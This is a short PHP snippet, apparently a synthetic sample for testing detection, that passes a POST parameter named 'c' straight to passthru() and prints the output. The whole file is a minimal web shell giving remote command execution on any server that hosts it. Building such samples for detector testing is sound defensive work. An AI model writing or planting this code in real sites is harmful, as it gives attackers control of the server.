<?php
// synthetic: the command call sits inside a string concatenation
echo "<pre>" . passthru($_POST['c']) . "</pre>";
